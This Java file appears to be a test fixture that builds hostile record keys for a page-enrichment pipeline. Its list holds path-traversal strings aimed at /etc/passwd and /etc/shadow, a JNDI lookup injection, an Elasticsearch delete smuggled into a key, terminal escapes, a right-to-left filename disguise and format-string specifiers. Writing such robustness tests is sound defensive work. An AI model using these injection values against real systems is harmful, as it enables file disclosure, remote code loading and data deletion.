// Copyright 2026 The Kawaraban authors
// SPDX-License-Identifier: Apache-2.0

package org.kawaraban.enrich.hostile;

import java.util.ArrayList;
import java.util.List;

/** Record keys, which are the URIs of pages: missing, no text, no URI, and traps for whoever makes a path of them. */
final class Keys {
    /** Longest key that is taken for a URI. */
    private static final int MOST = 16 << 10;

    private Keys() {}

    static List<BadRecord> cases() {
        List<BadRecord> cases = new ArrayList<>();
        cases.add(page("null", BadRecord.RECORDS).withKey(null));
        cases.add(page("empty", BadRecord.RECORDS).withKey(new byte[0]));
        cases.add(page("no-utf-8", BadRecord.RECORDS).withKey(new byte[] {(byte) 0xFF, (byte) 0xC0, 'x', (byte) 0xED}));
        cases.add(page("nul", BadRecord.RECORDS).withKey(new byte[4]));
        List<String> texts = List.of(
                " ",
                "\n",
                "../../../../etc/passwd",
                "..\\..\\windows\\system32",
                "/dev/zero",
                "file:///etc/shadow",
                "a\nb\r\nc.txt",
                "\"}}\n{\"delete\":{\"_index\":\"articles\",\"_id\":\"1\"}}\n",
                "\u001B[2J\u001B]0;title\u0007.txt",
                "\u202Etxt.exe",
                "${jndi:ldap://example.org/a}",
                "%s%n%x%d",
                "http://[::1",
                "https://user:password@example.org/",
                "瓦版.txt",
                "😀".repeat(100),
                "a".repeat(MOST),
                "\u0001".repeat(MOST));
        for (int i = 0; i < texts.size(); i++) {
            cases.add(page("text-" + i, BadRecord.RECORDS).withKey(BadRecord.utf8(texts.get(i))));
        }
        for (int length : new int[] {MOST + 1, 100_000, 1 << 20, 20 << 20}) {
            cases.add(page("of-" + length, "too-large").withKey(BadRecord.utf8("a".repeat(length))));
        }
        cases.add(page("of-30-MiB-and-no-value", "null")
                .withKey(new byte[30 << 20])
                .withValue(null));
        return cases;
    }

    private static BadRecord page(String name, String ending) {
        return BadRecord.page("key-" + name, "鍵の試験 " + name + "\n\n" + Carrier.text(), ending);
    }
}
